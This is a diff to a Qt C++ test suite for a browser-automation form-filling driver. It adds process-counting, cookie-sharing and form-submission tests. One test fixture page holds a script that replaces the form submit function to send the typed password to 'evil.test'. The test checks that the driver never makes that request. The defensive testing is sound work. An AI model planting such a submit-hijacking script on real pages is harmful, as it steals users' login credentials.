@@ -44,6 +44,27 @@ QString pluginPath()
         .filePath(QLatin1String(FendrelLoader::kFileName));
 }
 
+// The engine's page processes: those its zygotes, the children of this
+// process, have forked (they keep the zygote's command line).
+int rendererProcesses()
+{
+    QHash<uint, uint> parents; // live process -> its parent
+    for (const QString& entry : QDir(QStringLiteral("/proc")).entryList(QDir::Dirs)) {
+        QFile stat(QStringLiteral("/proc/%1/stat").arg(entry));
+        if (entry.toUInt() == 0 || !stat.open(QIODevice::ReadOnly))
+            continue;
+        const QByteArray text = stat.readAll();
+        const QList<QByteArray> fields = text.mid(text.lastIndexOf(')') + 2).split(' ');
+        if (fields.value(0) != "Z")
+            parents.insert(entry.toUInt(), fields.value(1).toUInt());
+    }
+    const uint self = uint(QCoreApplication::applicationPid());
+    int renderers = 0;
+    for (auto it = parents.cbegin(); it != parents.cend(); ++it)
+        renderers += parents.value(it.value()) == self ? 1 : 0;
+    return renderers;
+}
+
 } // namespace
 
 class FendrelCtrlTest : public QObject
@@ -55,6 +76,10 @@ private Q_SLOTS:
     void browses_data();
     void browses();
     void fillsAndSubmitsAForm();
+    void fillsOnlyThePageRead_data();
+    void fillsOnlyThePageRead();
+    void sharesBrowsersBetweenServices_data();
+    void sharesBrowsersBetweenServices();
     void brokenPlugin();
     void debugWindow();
 
@@ -102,6 +127,31 @@ void FendrelCtrlTest::initTestCase()
                                 " name='passwd'></form></body></html>"));
     m_server.setPage(QStringLiteral("http://login.test/done"),
                      QByteArray("<html><body><b>Inbox (12)</b></body></html>"));
+    // An advertisement frame that a script adds once the page has loaded.
+    m_server.setPage(QStringLiteral("http://pages.test/late-frame"),
+                     QByteArray("<html><body>late<script>addEventListener('load', function () {"
+                                " setTimeout(function () { var f = document.createElement("
+                                "'iframe'); f.src = 'http://ads.test/banner';"
+                                " document.body.appendChild(f); }, 500); });</script>"
+                                "</body></html>"));
+    m_server.setPage(QStringLiteral("http://ads.test/banner"),
+                     ScriptedWebServer::Page{frame, {}, 1000, false});
+    const QByteArray loginForm = "<form name='login_form' method='post' action='/done'><input"
+                                 " name='login'><input type='password' name='passwd'></form>";
+    m_server.setPage(
+        QStringLiteral("http://other.test/form"),
+        QByteArray("<html><body><form name='search'></form>" + loginForm + "</body></html>"));
+    m_server.setPage(QStringLiteral("http://login.test/patched"),
+                     QByteArray("<html><body><form name='search'></form>" + loginForm +
+                                "<script>HTMLFormElement.prototype.submit = function () {"
+                                " location.href = 'http://evil.test/?' + this.passwd.value; };"
+                                "</script></body></html>"));
+    m_server.setPage(QStringLiteral("http://pages.test/set-cookie"),
+                     QByteArray("<html><body><script>document.cookie = 'who=first';</script>"
+                                "</body></html>"));
+    m_server.setPage(QStringLiteral("http://pages.test/cookies"),
+                     QByteArray("<html><body><script>document.body.textContent ="
+                                " 'cookies:' + document.cookie;</script></body></html>"));
     m_server.setPage(QStringLiteral("http://pages.test/moved"),
                      ScriptedWebServer::Page{{}, "http://pages.test/target", 0, false});
 }
@@ -126,6 +176,9 @@ void FendrelCtrlTest::browses_data()
                                         << QStringLiteral("http://pages.test/popup") << 2000 << 1;
     QTest::newRow("script error") << QStringLiteral("http://pages.test/script-error")
                                   << QStringLiteral("http://pages.test/script-error") << 2000 << 1;
+    QTest::newRow("frame added after the load")
+        << QStringLiteral("http://pages.test/late-frame")
+        << QStringLiteral("http://pages.test/late-frame") << 2000 << 2;
     QTest::newRow("slow page") << QStringLiteral("http://pages.test/slow")
                                << QStringLiteral("http://pages.test/slow") << 4500 << 1;
 }
@@ -183,6 +236,92 @@ void FendrelCtrlTest::fillsAndSubmitsAForm()
     QCOMPARE(web.URL(), QStringLiteral("http://login.test/done"));
     QCOMPARE(m_server.postBodies, QList<QByteArray>{".tries=1&login=bob&passwd=s%C3%A9cret%26x"});
     QVERIFY(web.Document().html.contains(QLatin1String("Inbox (12)")));
+}
+
+void FendrelCtrlTest::fillsOnlyThePageRead_data()
+{
+    QTest::addColumn<QString>("address");
+    QTest::addColumn<QString>("movedTo"); // where the page goes between reading and filling
+    QTest::addColumn<QByteArray>("posted");
+
+    QTest::newRow("page replaced its submit") << QStringLiteral("http://login.test/patched")
+                                              << QString() << QByteArray("login=bob&passwd=secret");
+    QTest::newRow("page moved to another site")
+        << QStringLiteral("http://login.test/form") << QStringLiteral("http://other.test/form")
+        << QByteArray();
+}
+
+void FendrelCtrlTest::fillsOnlyThePageRead()
+{
+    QFETCH(QString, address);
+    QFETCH(QString, movedTo);
+    QFETCH(QByteArray, posted);
+
+    HTTPConnector web(m_clock, m_browsers.get());
+    QSignalSpy done(&web, &WebDriver::DoneBrowsing);
+    QSignalSpy errors(&web, &WebDriver::Error);
+    web.GoToURL(address);
+    QTRY_COMPARE_WITH_TIMEOUT(done.count(), 1, kBounded);
+    const qsizetype form = web.Document().findForm(QStringLiteral("login_form"), Qt::CaseSensitive);
+    QVERIFY(form >= 0);
+    if (!movedTo.isEmpty()) {
+        // The page goes elsewhere by itself; the driver has not read it yet.
+        QVERIFY(web.form().Browser()->Navigate(movedTo));
+        QTRY_VERIFY_WITH_TIMEOUT(!web.form().Browser()->Busy(), kBounded);
+        QCOMPARE(done.count(), 1);
+    }
+
+    m_server.requests.clear();
+    m_server.postBodies.clear();
+    const int fields = int(web.Document().forms.at(form).fields.size());
+    web.SubmitForm(form,
+                   {{fields - 2, QStringLiteral("bob")}, {fields - 1, QStringLiteral("secret")}});
+    if (posted.isEmpty()) {
+        QTRY_COMPARE_WITH_TIMEOUT(errors.count(), 1, kBounded);
+        QCOMPARE(errors.at(0).at(0).toString(), QStringLiteral("Unable to load webpage."));
+        QTest::qWait(500);
+    } else {
+        QTRY_COMPARE_WITH_TIMEOUT(done.count(), 2, kBounded);
+        QCOMPARE(errors.count(), 0);
+    }
+    QCOMPARE(m_server.postBodies, posted.isEmpty() ? QList<QByteArray>() : QList{posted});
+    QVERIFY2(!m_server.requests.join(u' ').contains(QLatin1String("evil.test")),
+             qPrintable(m_server.requests.join(u' ')));
+}
+
+void FendrelCtrlTest::sharesBrowsersBetweenServices_data()
+{
+    QTest::addColumn<QStringList>("services");
+    QTest::addColumn<int>("renderers");
+    QTest::addColumn<bool>("cookiesShared");
+
+    QTest::newRow("four services share one")
+        << QStringList{QStringLiteral("Hotmail"), QStringLiteral("Yahoo"), QStringLiteral("a"),
+                       QStringLiteral("b")}
+        << 1 << true;
+    QTest::newRow("one service twice shares nothing")
+        << QStringList{QStringLiteral("Hotmail"), QStringLiteral("Hotmail")} << 2 << false;
+}
+
+void FendrelCtrlTest::sharesBrowsersBetweenServices()
+{
+    QFETCH(QStringList, services);
+    QFETCH(int, renderers);
+    QFETCH(bool, cookiesShared);
+
+    std::vector<std::unique_ptr<HTTPConnector>> checks;
+    for (const QString& service : services) {
+        checks.push_back(std::make_unique<HTTPConnector>(m_clock, m_browsers.get(), service));
+        HTTPConnector& web = *checks.back();
+        QSignalSpy done(&web, &WebDriver::DoneBrowsing);
+        web.GoToURL(checks.size() == 1 ? QStringLiteral("http://pages.test/set-cookie")
+                                       : QStringLiteral("http://pages.test/cookies"));
+        QTRY_COMPARE_WITH_TIMEOUT(done.count(), 1, kBounded);
+        if (checks.size() > 1)
+            QCOMPARE(web.Document().html.contains(QLatin1String("who=first")), cookiesShared);
+    }
+    // Renderers of checks before this one end in their own time.
+    QTRY_COMPARE_WITH_TIMEOUT(rendererProcesses(), renderers, kBounded);
 }
 
 void FendrelCtrlTest::brokenPlugin()
